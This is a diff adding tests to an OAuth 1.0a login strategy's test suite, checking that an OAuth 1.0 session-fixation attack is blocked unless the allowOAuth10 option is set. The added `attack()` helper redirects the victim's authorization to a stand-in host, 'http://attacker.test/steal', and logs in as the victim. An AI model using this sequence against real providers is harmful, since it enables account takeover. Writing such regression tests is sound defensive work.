@@ -279,14 +279,58 @@ describe('OAuth1Strategy against a live OAuth 1.0a provider', () => {
   });
 
   describe('an OAuth 1.0 provider (no oauth_callback_confirmed)', () => {
-    it('passes oauth_callback in the redirect and logs in without a verifier', async () => {
+    /**
+     * The session-fixation attack OAuth 1.0a fixed: the attacker starts a login in their own
+     * session, points the authorization link's oauth_callback at their own page, the victim
+     * approves, and the attacker completes the login with the request token they received.
+     */
+    async function attack(app: ReturnType<typeof profileApp>): Promise<request.Response> {
+      const attacker = request.agent(app);
+      const start = await attacker.get('/login');
+      if (start.status !== 302) return start;
+      const link = new URL(start.headers.location as string);
+      link.searchParams.set('oauth_callback', 'http://attacker.test/steal');
+      const stolen = new URL(await approve(link.toString(), 'bob'));
+      expect(stolen.origin).to.equal('http://attacker.test');
+      return attacker.get(`/callback${stolen.search}`);
+    }
+
+    it('is refused with CallbackNotConfirmedError, so the session-fixation attack gets nowhere', async () => {
       await startProvider({ callbackConfirmed: false });
-      const agent = request.agent(profileApp());
+      const res = await attack(profileApp());
+      expect(res.status).to.equal(500);
+      expect(res.body.error).to.include({ name: 'CallbackNotConfirmedError', code: 'ERR_OAUTH_CALLBACK_NOT_CONFIRMED' });
+      expect(res.body.error.message).to.match(/allowOAuth10: true/);
+      expect(res.body.user).to.equal(undefined);
+      expect(provider.received.map((r) => r.endpoint)).to.deep.equal(['requestToken']);
+    });
+
+    it('with allowOAuth10, passes oauth_callback in the redirect and logs in without a verifier', async () => {
+      await startProvider({ callbackConfirmed: false });
+      const agent = request.agent(profileApp({ allowOAuth10: true }));
       const start = await agent.get('/login').expect(302);
       expect(start.headers.location).to.match(/\?oauth_token=[0-9a-f]+&oauth_callback=http%3A%2F%2Fapp\.test%2Fcallback$/);
       const back = await approve(start.headers.location as string);
       expect(back).to.not.include('oauth_verifier');
       expect((await agent.get(pathOf(back)).expect(200)).body.user.id).to.equal('1001');
+    });
+
+    it('with allowOAuth10, is open to the attack: the risk the option documents', async () => {
+      await startProvider({ callbackConfirmed: false });
+      const res = await attack(profileApp({ allowOAuth10: true }));
+      expect(res.status).to.equal(200);
+      expect(res.body.user).to.deep.equal({ id: '1002', username: 'bob' });
+    });
+
+    it('fails a callback without oauth_verifier from a 1.0a provider, without calling it', async () => {
+      await startProvider();
+      const agent = request.agent(profileApp());
+      const start = await agent.get('/login').expect(302);
+      const back = new URL(await approve(start.headers.location as string));
+      back.searchParams.delete('oauth_verifier');
+      const res = await agent.get(pathOf(back.toString())).expect(400);
+      expect(res.body.failure).to.deep.equal({ message: 'Missing oauth_verifier parameter' });
+      expect(provider.received.map((r) => r.endpoint)).to.not.include('accessToken');
     });
   });
 
